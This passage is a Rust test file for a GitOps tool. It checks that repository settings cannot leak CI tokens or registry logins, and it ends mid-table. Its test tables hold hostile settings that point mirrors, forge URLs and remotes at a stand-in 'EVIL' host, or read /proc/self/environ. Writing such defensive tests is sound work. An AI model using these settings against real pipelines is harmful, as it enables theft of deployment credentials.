//! A repository that tries to get the secrets of the job: no setting in it sends one to a host of its choice, with any command.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::mpsc::{Receiver, channel};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use tagboat::config;

use crate::support::certificates;
use crate::support::docker_registry::{self, DockerRegistry};
use crate::support::http_double::{Double, ReceivedRequest, Reply};
use crate::support::process::find;
use crate::support::proxy::Proxy;
use crate::support::repository::Bare;
use crate::support::repository::git;
use crate::support::secret_leaks;
use crate::support::tagboat::Tagboat;

/// Variables of the job, among them the secret.
type Job = &'static [(&'static str, &'static str)];

/// What the repository's `tagboat.yaml` sets, the image in its manifest, the secret that it is after, and why `check` refuses the
/// setting; if it does not, the listener receives requests. `EVIL` is the host of the listener.
type Setting = (&'static str, &'static str, Job, &'static str);

#[rustfmt::skip]
const SETTINGS: &[Setting] = &[
    // the setting                                                                                             image                     the secret                                      refused because
    ("registries: { EVIL: { plain-http: true, username-env: AWS_ACCESS_KEY_ID, password-env: AWS_SECRET_ACCESS_KEY } }", "EVIL/x/y:1.0",  &[("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")], "`username-env` is not allowed"),
    ("registries: { EVIL: { plain-http: true, token-env: DEPLOY_TOKEN } }",                                    "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "`token-env` is not allowed"),
    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }",                                                     "ghcr.io/x/y:1.0",        &[("GITHUB_TOKEN", "planted-token-of-github")], ""),
    ("registries: { docker.io: { mirror: 'http://EVIL/hub' } }",                                               "x/y:1.0",                &[("TAGBOAT_REGISTRY_DOCKER_IO_TOKEN", "planted-token-of-the-hub")], ""),
    ("registries: { registry.invalid: { mirror: EVIL, plain-http: true } }",                                   "registry.invalid/x:1.0", &[("CI_JOB_TOKEN", "planted-token-of-gitlab")], ""),
    ("registries: { 123456789012.dkr.ecr.eu-west-1.amazonaws.com: { mirror: 'http://EVIL' } }", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/x:1.0", &[("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")], ""),
    ("registries: { registry.invalid: { auth-hosts: [EVIL] } }",                                               "EVIL/x/y:1.0",           &[("TAGBOAT_REGISTRY_REGISTRY_INVALID_PASSWORD", "planted-password-of-a-registry")], "`auth-hosts` is not allowed"),
    ("registries: { EVIL: { plain-http: true, client-cert-file: /proc/self/environ } }",                       "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "`client-cert-file` is not allowed"),
    ("registries: { EVIL: { ca-file: /proc/self/environ } }",                                                  "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "leads out of the repository"),
    ("forge: { kind: github, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           &[("TAGBOAT_FORGE_TOKEN", "planted-token-of-the-forge")], "the token is not sent to 127.0.0.1"),
    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }",                                            "EVIL/x/y:1.0",           &[("FORGEJO_TOKEN", "planted-token-of-forgejo")], "the token is not sent to 127.0.0.1"),
    ("forge: { kind: gitlab, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           &[("GITLAB_TOKEN", "planted-personal-token")], "the token is not sent to 127.0.0.1"),
    ("forge: { kind: azure-devops, url: 'http://EVIL', repository: a/b/c }",                                   "EVIL/x/y:1.0",           &[("SYSTEM_ACCESSTOKEN", "planted-token-of-azure")], "the token is not sent to 127.0.0.1"),
    ("git: { sign: { format: ssh, key: /proc/self/environ } }",                                                "EVIL/x/y:1.0",           &[("TAGBOAT_SIGNING_KEY", "planted-signing-key")], "`sign` is not allowed"),
    ("git: { remote: other }",                                                                                 "EVIL/x/y:1.0",           &[("TAGBOAT_GIT_PASSWORD", "planted-password-of-git")], "`remote` is not allowed"),
    ("registries: { EVIL: { plain-http: true } }", "EVIL/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
    ("registries: { git.invalid: { mirror: 'http://EVIL' } }", "git.invalid/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }", "ghcr.io/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }", "EVIL/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], "Gitea needs a token"),
    ("registries: { EVIL: { plain-http: true } }", "EVIL/x/y:1.0", &[("GITEA_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://git.invalid"), ("GITEA_TOKEN", "planted-token-of-the-job")], ""),
    ("registries: { git.invalid: { mirror: 'http://EVIL' } }", "git.invalid/x/y:1.0", &[("GITEA_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://git.invalid"), ("GITEA_TOKEN", "planted-token-of-the-job")], ""),
];

const COMMANDS: &[&[&str]] = &[&["list"], &["plan"], &["edit"], &["explain", "y"], &["check"], &["run"]];

/// Requests every kind of login.
fn evil(request: &ReceivedRequest) -> Reply {
    let scheme = if request.path().starts_with("/v2") { "Basic realm=\"evil\"" } else { "Bearer realm=\"/token\"" };
    Reply::new(401, "{}").header("www-authenticate", scheme)
}

/// Starts a proxy in place of all other hosts. It opens tunnels and answers in them without TLS, which no client tries again. The
/// channel returns what each connection received.
fn rest_of_the_world() -> (String, Receiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (sender, received) = channel();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let sender = sender.clone();
            std::thread::spawn(move || {
                let (mut bytes, mut part) = (Vec::new(), [0; 4096]);
                for answer in ["HTTP/1.1 200 OK\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n\r\n"] {
                    let length = stream.read(&mut part).unwrap_or_default();
                    bytes.extend_from_slice(&part[..length]);
                    let _ = stream.write_all(answer.as_bytes());
                }
                let _ = sender.send(bytes);
            });
        }
    });
    (url, received)
}

/// Runs every command with one setting.
fn check_setting((setting, image, job, refusal): Setting, listener: &Double) {
    let filled = |text: &str| text.replace("EVIL", &listener.host());
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    let manifest = format!("kind: Pod\nspec:\n  containers:\n  - image: {}\n", filled(image));
    bare.commit("main", &[(config::FILE_NAME, &filled(setting)), ("app.yaml", &manifest)], "Deploy");
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    git(&folder.path().join("checkout"), &["remote", "add", "other", &filled("http://EVIL/a/b.git")]);
    let checkout = folder.path().join("checkout").display().to_string();
    let mut secrets = secret_leaks::secrets(secret_leaks::VARIABLES.iter().chain(job).copied());
    secrets.extend(job.iter().map(|(_, value)| (*value).to_owned()).filter(|value| value.starts_with("planted")));
    assert!(job.iter().any(|(_, value)| secrets.contains(*value)), "{setting}: no secret in {job:?}");
    let (proxy, tunnels) = rest_of_the_world();
    let tagboat =
        job.iter().fold(Tagboat::new().with("HTTPS_PROXY", &proxy), |all, (name, value)| all.with(name, value));
    for command in COMMANDS {
        let output = tagboat.run(&[*command, &["-C", &checkout]].concat());
        let printed = format!("{}{}", output.stdout, output.log);
        assert_eq!(secret_leaks::found(&secrets, printed.as_bytes()), [""; 0], "{setting}: {command:?} prints");
        assert!(command[0] != "check" || printed.contains(refusal), "{setting}: {refusal} is not in {printed}");
        for request in listener.received() {
            let sent = format!("{} {} {:?} {}", request.method, request.target, request.headers, request.body);
            assert_eq!(secret_leaks::found(&secrets, sent.as_bytes()), [""; 0], "{setting}: {command:?} sends {sent}");
            assert_eq!(request.header("authorization"), None, "{setting}: {command:?} sends {sent}");
        }
        for sent in tunnels.try_iter() {
            let shown = String::from_utf8_lossy(&sent).into_owned();
            assert_eq!(secret_leaks::found(&secrets, &sent), [""; 0], "{setting}: {command:?} sends {shown}");
        }
    }
    // That the listener receives no secret means something only if it receives requests.
    assert_eq!(listener.received().is_empty(), !refusal.is_empty(), "{setting}: {:?}", listener.received());
}

#[tokio::test(flavor = "multi_thread")]
async fn repository_sends_no_secret_to_a_host_of_its_choice() {
    assert!(SETTINGS.len() * COMMANDS.len() >= 60);
    let mut checks = tokio::task::JoinSet::new();
    for setting in SETTINGS {
        let listener = Double::start(evil).await;
        checks.spawn_blocking(move || check_setting(*setting, &listener));
    }
    checks.join_all().await;
}

/// The variables of a registry belong to one host: the name of another one may differ in a hyphen, or in the port.
#[tokio::test(flavor = "multi_thread")]
async fn credential_of_a_variable_goes_to_no_host_with_a_similar_name() {
    #[rustfmt::skip]
    let rows = [
        // the part of the variable      the registry             receives the token
        ("REGISTRY_ACME_TEST",           "registry.acme.test",       true),
        ("REGISTRY_ACME_TEST",           "registry-acme.test",       false),
        ("REGISTRY_ACME_TEST",           "registry.acme-test.test",  false),
        ("REGISTRY_ACME_TEST",           "registry.acme.test:5000",  false),
        ("REGISTRY_ACME_TEST_5000",      "registry.acme.test:5000",  true),
        ("REGISTRY_ACME_TEST_5000",      "registry-acme.test:5000",  false),
        ("REGISTRY__ACME_TEST",          "registry-acme.test",       true),
        ("REGISTRY__ACME_TEST",          "registry.acme.test",       false),
    ];
    for (name, host, expected) in rows {
        let proxy = Double::start(evil).await;
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        bare.commit("main", &[("app.yaml", &format!("image: {host}/x/y:1.0\n"))], "Deploy");
        let tagboat = Tagboat::new()
            .with_config(&format!("registries: {{ '{host}': {{ plain-http: true }} }}\n"))
            .with(&format!("TAGBOAT_REGISTRY_{name}_TOKEN"), "planted-token-of-a-registry")
            .with("HTTP_PROXY", &format!("http://{}", proxy.host()));
        let output = tagboat.run(&["plan", "-C", &bare.url()]);
        let received = proxy.received();
        assert!(!received.is_empty(), "{name} {host}: {output:?}");
        assert_eq!(received.iter().any(|it| it.header("authorization").is_some()), expected, "{name} {host}");
    }
}

/// A certificate authority from the repository may be one of a stranger: what it certifies receives no login of the job.
#[tokio::test(flavor = "multi_thread")]
async fn sends_no_login_to_a_registry_that_only_the_repository_trusts() {
    if ["openssl", "htpasswd", "umoci", "skopeo"].map(find).iter().any(Option::is_none) {
        return;
    }
    let yaml = "http: {addr: $ADDR, tls: {certificate: $DIR/srv.crt, key: $DIR/srv.key}}\n\
                auth: {htpasswd: {realm: test, path: $DIR/htpasswd}}";
    let prepare = |folder: &std::path::Path| {
        certificates::make(folder);
        let passwords = docker_registry::run("htpasswd", &["-Bbn", "alice", "planted-login-of-alice"]);
        std::fs::write(folder.join("htpasswd"), passwords).unwrap();
    };
    let Some(server) = DockerRegistry::start(yaml, prepare) else { return };
    server.push("acme/app", &["1.0"], "2024-01-02T03:04:05Z", &[], &["--dest-creds", "alice:planted-login-of-alice"]);
    let proxy = Proxy::start(server.host(), None).await;
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    let authority = std::fs::read_to_string(server.folder().join("ca.crt")).unwrap();
    let config = "registries: { registry.test: { ca-file: ca.crt } }\n";
    let manifest = "kind: Pod\nspec:\n  containers:\n  - image: registry.test/acme/app:1.0\n";
    bare.commit("main", &[(config::FILE_NAME, config), ("ca.crt", &authority), ("app.yaml", manifest)], "Deploy");
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = folder.path().join("checkout").display().to_string();
    let of_operator =
        format!("registries: {{ registry.test: {{ ca-file: '{}' }} }}\n", server.folder().join("ca.crt").display());
    for (operator, anonymous) in [("{}\n", true), (&of_operator, false)] {
        let tagboat = Tagboat::new()
            .with_config(operator)
            .with("TAGBOAT_REGISTRY_REGISTRY_TEST_USERNAME", "alice")
            .with("TAGBOAT_REGISTRY_REGISTRY_TEST_PASSWORD", "planted-login-of-alice")
            .with("HTTPS_PROXY", &format!("http://{}", proxy.host()));
        for command in [&["plan"][..], &["edit"], &["explain", "app"], &["check"], &["run", "--dry-run"]] {
            let output = tagboat.run(&[command, &["-C", &checkout]].concat());
            let printed = format!("{}{}", output.stdout, output.stderr);
            // Without the breaks of lines that are too long.
            let printed = printed.split_whitespace().collect::<Vec<_>>().join(" ");
            let denied = printed.contains("denied anonymous access");
            assert_eq!(denied, anonymous, "{operator}: {command:?}: {output:?}");
            let withheld =
                "(credentials are withheld: tagboat.yaml of the repository sets `ca-file` for this registry)";
            assert_eq!(printed.contains(withheld), anonymous, "{operator}: {command:?}: {output:?}");
            let hint = "`ca-file` of this registry in the file of --config instead of tagboat.yaml";
            assert_eq!(printed.contains(hint), anonymous, "{operator}: {command:?}: {output:?}");
            let named = printed.contains("with the credential from TAGBOAT_REGISTRY_REGISTRY_TEST_PASSWORD");
            assert_eq!(named, command[0] == "check" && !anonymous, "{operator}: {command:?}: {output:?}");
        }
    }
}

/// The same settings work for the operator, so the rows above fail because of who sets them.
#[tokio::test(flavor = "multi_thread")]
async fn operator_sends_a_credential_to_the_host_that_it_names() {
    let listener = Double::start(evil).await;
    let host = listener.host();
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit("main", &[("app.yaml", &format!("image: {host}/x/y:1.0\n"))], "Deploy");
    let config = format!("registries: {{ '{host}': {{ plain-http: true, token-env: DEPLOY_TOKEN }} }}\n");
    let tagboat = Tagboat::new().with_config(&config).with("DEPLOY_TOKEN", "planted-deploy-token");
    tagboat.run(&["plan", "-C", &bare.url()]);
    assert!(
        listener.received().iter().any(|request| request.header("authorization").is_some()),
        "{:?}",
        listener.received()
    );
}

/// The token of a job is for the registry of the server that runs it.
#[tokio::test(flavor = "multi_thread")]
async fn token_of_a_job_goes_to_the_registry_of_its_server() {
    for (marker, token) in [("FORGEJO_ACTIONS", "FORGEJO_TOKEN"), ("GITEA_ACTIONS", "GITEA_TOKEN")] {
        let (server, other) = (Double::start(evil).await, Double::start(evil).await);
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        let images = [&server, &other].map(|host| format!("- image: {}/x/y:1.0\n", host.host())).concat();
        bare.commit("main", &[("app.yaml", &format!("containers:\n{images}"))], "Deploy");
        let plain = [&server, &other].map(|host| format!("  '{}': {{ plain-http: true }}\n", host.host())).concat();
        let tagboat = Tagboat::new()
            .with_config(&format!("registries:\n{plain}"))
            .with(marker, "true")
            .with("GITHUB_SERVER_URL", &format!("http://{}", server.host()))
            .with("GITHUB_ACTOR", "octocat")
            .with(token, "planted-token-of-the-job");
        let output = tagboat.run(&["plan", "-C", &bare.url()]);
        let sent = |double: &Double| {
            double.received().iter().filter_map(|it| it.header("authorization").map(str::to_owned)).collect::<Vec<_>>()
        };
        // octocat:planted-token-of-the-job
        assert!(
            sent(&server).iter().all(|it| it == "Basic b2N0b2NhdDpwbGFudGVkLXRva2VuLW9mLXRoZS1qb2I="),
            "{output:?}"
        );
        assert_eq!((sent(&server).is_empty(), sent(&other)), (false, vec![]), "{output:?}");
    }
}

/// Outside of a job, a person set the token for the server of the git remote.
#[tokio::test(flavor = "multi_thread")]
async fn token_of_a_person_goes_to_the_registry_of_the_remote_only() {
    #[rustfmt::skip]
    let rows = [
        // the git remote                  the token is sent to ghcr.io
        ("https://github.com/a/b.git",     true),
        ("git@github.com:a/b.git",         true),
        ("https://git.invalid/a/b.git",    false),
        ("https://me@git.invalid/github.com", false),
    ];
    for (remote, expected) in rows {
        let proxy = Double::start(evil).await;
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        bare.commit("main", &[("apps/app.yaml", "image: ghcr.io/x/y:1.0\n")], "Deploy");
        git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
        let checkout = folder.path().join("checkout");
        git(&checkout, &["remote", "set-url", "origin", remote]);
        let tagboat = Tagboat::new()
            .with_config("registries: { ghcr.io: { plain-http: true } }\n")
            .with("GITHUB_SERVER_URL", "")
            .with("HTTP_PROXY", &format!("http://{}", proxy.host()));
        for (command, place) in [(&["edit"][..], ""), (&["explain", "y"], ""), (&["edit"], "apps")] {
            let before = proxy.received().len();
            let output = tagboat.run(&[command, &["-C", &checkout.join(place).display().to_string()]].concat());
            let received = proxy.received().split_off(before);
            assert!(!received.is_empty(), "{remote} {command:?}: {output:?}");
            let is_sent = received.iter().any(|it| it.header("authorization").is_some());
            assert_eq!(is_sent, expected, "{remote} {command:?}: {received:?}");
        }
    }
}

/// A workflow may pass the token of the job on under another name, as the action does: it still is for the server of the job.
#[tokio::test(flavor = "multi_thread")]
async fn token_of_a_job_under_another_name_goes_to_its_server_only() {
    type Names = &'static [&'static str];
    #[rustfmt::skip]
    let rows: [(Job, &str, Names); 6] = [
        (&[("FORGEJO_ACTIONS", "true")], "FORGEJO_SERVER_URL", &["FORGEJO_TOKEN", "TAGBOAT_FORGE_TOKEN"]),
        (&[("FORGEJO_ACTIONS", "true")], "FORGEJO_SERVER_URL", &["FORGEJO_TOKEN", "TAGBOAT_GIT_PASSWORD"]),
        (&[("GITEA_ACTIONS", "true")],   "GITEA_SERVER_URL",   &["GITEA_TOKEN", "TAGBOAT_FORGE_TOKEN"]),
        (&[("GITHUB_ACTIONS", "true")],  "GITHUB_SERVER_URL",  &["GITHUB_TOKEN", "TAGBOAT_FORGE_TOKEN"]),
        (&[("GITHUB_ACTIONS", "true")],  "GITHUB_SERVER_URL",  &["ACTIONS_RUNTIME_TOKEN", "TAGBOAT_GIT_PASSWORD"]),
        (&[("GITLAB_CI", "true")],       "CI_SERVER_URL",      &["CI_JOB_TOKEN", "TAGBOAT_FORGE_TOKEN"]),
    ];
    for (job, server, names) in rows {
        for config in ["{}\n", "forge: { kind: gitea }\n", "forge: { kind: gitlab }\n"] {
            for is_on_server in [true, false] {
                let remote = Double::start(|_| Reply::new(401, "").header("www-authenticate", "Basic realm=git")).await;
                let own = format!("http://{}", remote.host());
                let tagboat = Tagboat::new().with_config(config);
                let tagboat = job.iter().fold(tagboat, |all, (name, value)| all.with(name, value));
                let tagboat = names.iter().fold(tagboat, |all, name| all.with(name, "planted-token-of-the-job"));
                let tagboat = tagboat.with(server, if is_on_server { &own } else { "https://git.invalid" });
                let url = format!("{own}/a/b.git");
                for command in [&["plan"][..], &["check"], &["run"]] {
                    let output = tagboat.run(&[command, &["-C", &url]].concat());
                    let withheld = output.stderr.contains(&format!("{} is not sent to http://", names[1]));
                    assert_eq!(withheld, !is_on_server, "{names:?} {config}: {command:?}: {output:?}");
                }
                let received = remote.received();
                let is_sent = received.iter().any(|request| request.header("authorization").is_some());
                assert_eq!((received.is_empty(), is_sent), (false, is_on_server), "{names:?} {config}: {received:?}");
            }
        }
    }
}

/// The kind of forge may be in a file that git has yet to fetch, and the host name may not name it. The runner does.
#[tokio::test(flavor = "multi_thread")]
async fn git_logs_in_with_the_token_of_the_forge_that_runs_the_job() {
    #[rustfmt::skip]
    let rows = [
        // the job                 its server            the token           user name and token
        ("GITLAB_CI",              "CI_SERVER_URL",      "GITLAB_TOKEN",     "oauth2:planted"),
        ("GITHUB_ACTIONS",         "GITHUB_SERVER_URL",  "GITHUB_TOKEN",     "x-access-token:planted"),
        ("GITHUB_ACTIONS",         "GITHUB_SERVER_URL",  "GH_TOKEN",         "x-access-token:planted"),
        ("GITEA_ACTIONS",          "GITHUB_SERVER_URL",  "GITEA_TOKEN",      "x-access-token:planted"),
    ];
    for (marker, server, token, login) in rows {
        for is_on_server in [true, false] {
            let remote = Double::start(|_| Reply::new(401, "").header("www-authenticate", "Basic realm=git")).await;
            let own = format!("http://{}", remote.host());
            let others = ["GITHUB_SERVER_URL", "GITHUB_ACTIONS", "GITHUB_TOKEN"];
            let tagboat = others.iter().fold(Tagboat::new(), |all, name| all.with(name, ""));
            let tagboat = tagboat.with(marker, "true").with(token, "planted");
            let tagboat = tagboat.with(server, if is_on_server { &own } else { "https://git.invalid" });
            let output = tagboat.run(&["run", "-C", &format!("{own}/a/b.git")]);
            let sent = remote.received().into_iter().find_map(|it| it.header("authorization").map(str::to_owned));
            let decoded = |header: String| STANDARD.decode(header.trim_start_matches("Basic ")).unwrap();
            let sent = sent.map(|header| String::from_utf8(decoded(header)).unwrap());
            assert_eq!(sent.is_some(), is_on_server, "{token}: {output:?}");
            assert!(sent.is_none_or(|sent| sent == login), "{token}: {output:?}");
            let hint = "hint: set TAGBOAT_FORGE_TOKEN";
            assert_eq!(output.stderr.contains(hint), !is_on_server, "{token}: {output:?}");
        }
    }
}

/// Jobs with this token.
const TOKEN: &str = "planted-token-of-the-job";
#[rustfmt::skip]
const GITHUB: Job = &[("GITHUB_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://github.com"), ("GITHUB_TOKEN", TOKEN)];
#[rustfmt::skip]
const ENTERPRISE: Job = &[("GITHUB_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://git.invalid"), ("GITHUB_TOKEN", TOKEN)];
const UNKNOWN: Job = &[("GITHUB_ACTIONS", "true"), ("GITHUB_SERVER_URL", ""), ("GITHUB_TOKEN", TOKEN)];
#[rustfmt::skip]
const FORGEJO: Job = &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", TOKEN)];
#[rustfmt::skip]
const GITEA: Job = &[("GITEA_ACTIONS", "true"), ("GITEA_SERVER_URL", "https://git.invalid"), ("GITEA_TOKEN", TOKEN)];
const GITLAB: Job = &[("GITLAB_CI", "true"), ("CI_SERVER_URL", "https://gitlab.com"), ("CI_JOB_TOKEN", TOKEN)];
const AZURE: Job = &[("SYSTEM_COLLECTIONURI", "https://dev.azure.com/acme/"), ("SYSTEM_ACCESSTOKEN", TOKEN)];
const PERSON: Job = &[("GITHUB_SERVER_URL", ""), ("GITHUB_TOKEN", TOKEN)];

/// Jobs, registries, and whether the registry may receive the token of the job.
#[rustfmt::skip]
const LOGINS: &[(Job, &str, bool)] = &[
    (GITHUB,      "ghcr.io",                    true),
    (GITHUB,      "registry.test",              false),
    (ENTERPRISE,  "containers.git.invalid",     true),
    (ENTERPRISE,  "ghcr.io",                    false),
    (UNKNOWN,     "ghcr.io",                    false),
    (FORGEJO,     "git.invalid",                true),
    (FORGEJO,     "git.invalid:5000",           false),
    (FORGEJO,     "containers.git.invalid",     false),
    (FORGEJO,     "ghcr.io",                    false),
    (GITEA,       "git.invalid",                true),
    (GITEA,       "registry.test",              false),
    (GITLAB,      "registry.gitlab.com",        true),
    (GITLAB,      "registry.invalid",           true),      // CI_REGISTRY
    (GITLAB,      "ghcr.io",                    false),
    (AZURE,       "acme.azurecr.io",            false),
    (PERSON,      "registry.test",              true),
];

/// Where the login of a registry comes from: a setting of the operator, and variables. `HOST` is the part of the host in their names,
/// `FILE` a configuration of docker.
#[rustfmt::skip]
const SOURCES: &[(&str, Job)] = &[
    ("",                                                        &[("TAGBOAT_REGISTRY_HOST_USERNAME", "me"), ("TAGBOAT_REGISTRY_HOST_PASSWORD", TOKEN)]),
    ("",                                                        &[("TAGBOAT_REGISTRY_HOST_USERNAME", TOKEN), ("TAGBOAT_REGISTRY_HOST_PASSWORD", "x-oauth")]),
    ("",                                                        &[("TAGBOAT_REGISTRY_HOST_TOKEN", TOKEN)]),
    (", token-env: DEPLOY_TOKEN",                               &[("DEPLOY_TOKEN", TOKEN)]),
    (", username-env: DEPLOY_USER, password-env: DEPLOY_TOKEN", &[("DEPLOY_USER", "me"), ("DEPLOY_TOKEN", TOKEN)]),
    ("",                                                        &[("REGISTRY_AUTH_FILE", "FILE")]),
];

/// A login for a registry may be the token of the job for the registry of its server, and for no other one.
#[tokio::test(flavor = "multi_thread")]
async fn token_of_a_job_as_the_login_of_a_registry_goes_to_the_registry_of_its_server_only() {
    for (job, host, expected) in LOGINS {
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        bare.commit("main", &[("app.yaml", &format!("image: {host}/x/y:1.0\n"))], "Deploy");
        let logins = folder.path().join("logins.json");
        let auth = STANDARD.encode(format!("me:{TOKEN}"));
        std::fs::write(&logins, format!(r#"{{"auths":{{"{host}":{{"auth":"{auth}"}}}}}}"#)).unwrap();
        let part = host.to_uppercase().replace(['.', ':'], "_");
        for (settings, variables) in SOURCES {
            let proxy = Double::start(evil).await;
            let tagboat = Tagboat::new()
                .with_config(&format!("registries: {{ '{host}': {{ plain-http: true{settings} }} }}\n"))
                .with("HTTP_PROXY", &format!("http://{}", proxy.host()))
                // These are planted in every run.
                .with("TAGBOAT_REGISTRY_REGISTRY_INVALID_USERNAME", "")
                .with("TAGBOAT_REGISTRY_REGISTRY_INVALID_PASSWORD", "");
            let tagboat = job.iter().fold(tagboat, |all, (name, value)| all.with(name, value));
            let tagboat = variables.iter().fold(tagboat, |all, (name, value)| {
                all.with(&name.replace("HOST", &part), &value.replace("FILE", &logins.display().to_string()))
            });
            let output = tagboat.run(&["plan", "-C", &bare.url()]);
            let received = proxy.received();
            let is_sent = received.iter().any(|request| request.header("authorization").is_some());
            assert!(!received.is_empty(), "{job:?} {host} {variables:?}: {output:?}");
            assert_eq!(is_sent, *expected, "{job:?} {host} {variables:?}: {received:?} {output:?}");
            let is_refused = output.stdout.contains(&format!("is not sent to {host}: it is the token of this job ("));
            assert_eq!(is_refused, !expected, "{job:?} {host} {variables:?}: {output:?}");
        }
    }
}

/// The login in the URL of a repository is sent only over TLS, and a token of the job only to its server.
#[tokio::test(flavor = "multi_thread")]
async fn login_in_the_url_of_a_repository_goes_where_a_token_may_go() {
    let remote = Double::start(|_| Reply::new(401, "").header("www-authenticate", "Basic realm=git")).await;
    let own = format!("http://{}", remote.host());
    #[rustfmt::skip]
    let rows = [
        // login                            address              server of the job         refused because
        ("me:planted-token-of-the-job",     own.as_str(),        own.as_str(),             None),
        ("planted-token-of-the-job",        &own,                &own,                     None),
        ("me:planted-token-of-the-job",     &own,                "https://git.invalid",    Some("is the token of this job (GITHUB_TOKEN), which is only for https://git.invalid")),
        ("planted-token-of-the-job",        &own,                "https://git.invalid",    Some("is the token of this job (GITHUB_TOKEN), which is only for https://git.invalid")),
        ("planted-token-of-the-job:x",      &own,                "https://git.invalid",    Some("is the token of this job (GITHUB_TOKEN), which is only for https://git.invalid")),
        ("me:planted-password",             &own,                "https://git.invalid",    None),
        ("me:planted-password",             "http://git.invalid", "https://github.invalid", Some("is not sent without TLS")),
        ("planted-token-of-a-person",       "http://git.invalid", "https://github.invalid", Some("is not sent without TLS")),
    ];
    for (login, address, server, refused) in rows {
        let url = format!("{address}/a/b.git").replacen("://", &format!("://{login}@"), 1);
        let folder = tempfile::tempdir().unwrap();
        git(folder.path(), &["init", "--quiet", "checkout"]);
        let checkout = folder.path().join("checkout");
        git(&checkout, &["remote", "add", "origin", &url]);
        let tagboat = |place: &str| {
            Tagboat::new()
                .with("GITHUB_ACTIONS", "true")
                .with("GITHUB_SERVER_URL", server)
                .with("GITHUB_TOKEN", "planted-token-of-the-job")
                .with("TAGBOAT_REPOSITORY", place)
        };
        let places = [tagboat(&url), tagboat(&checkout.display().to_string())];
        for command in ["plan", "check", "run"] {
            let before = remote.received().len();
            for output in places.iter().map(|tagboat| tagboat.run(&[command])) {
                let printed = format!("{}{}", output.stdout, output.stderr);
                assert!(printed.contains(refused.unwrap_or_default()), "{login} {address} {command}: {output:?}");
                assert_ne!(output.code, 0, "{login} {address} {command}: {output:?}");
            }
            let received = remote.received().split_off(before);
            let is_sent = received.iter().any(|request| request.header("authorization").is_some());
            assert_eq!(is_sent, refused.is_none(), "{login} {address} {command}: {received:?}");
        }
    }
}

/// Without TLS, only this machine receives a login for git.
#[test]
fn password_for_git_is_not_sent_without_tls() {
    let tagboat = Tagboat::new().with("TAGBOAT_GIT_PASSWORD", "planted-password-of-git");
    for command in ["plan", "run"] {
        let output = tagboat.run(&[command, "-C", "http://git.invalid/a/b.git"]);
        assert!(output.stderr.contains("no login is sent to git.invalid without TLS"), "{output:?}");
    }
}

/// A token as the user name or in the query of the remote's URL is a secret like a password.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn shows_no_secret_in_the_url_of_the_remote() {
    use std::os::unix::fs::PermissionsExt as _;
    let secrets = std::collections::BTreeSet::from(["planted-token-of-a-remote".to_owned()]);
    let found = |text: &str| secret_leaks::found(&secrets, text.as_bytes());
    #[rustfmt::skip]
    let rows = [
        // the URL of the remote                                                  is sent as the user, or refused because
        ("http://planted-token-of-a-remote@EVIL/a/b.git",                         Ok("planted-token-of-a-remote:")),
        ("http://me:planted-token-of-a-remote@EVIL/a/b.git",                      Ok("me:planted-token-of-a-remote")),
        ("http://EVIL/a/b.git?private_token=planted-token-of-a-remote",           Err("query may have a secret")),
        ("http://EVIL/a/b.git?x=1&access_token=planted-token-of-a-remote",        Err("query may have a secret")),
        ("http://me@EVIL/a/b.git?token=planted-token-of-a-remote",                Err("query may have a secret")),
        ("http://EVIL/a/b.git?pat=planted-token-of-a-remote",                     Err("query may have a secret")),
        ("http://EVIL/a/b.git;private_token=planted-token-of-a-remote",           Err("path has a parameter")),
        ("http://http://planted-token-of-a-remote@EVIL/a/b.git",                  Err("path has an `@`")),
        ("git://planted-token-of-a-remote@EVIL/a/b.git",                          Err("git:// has no user name")),
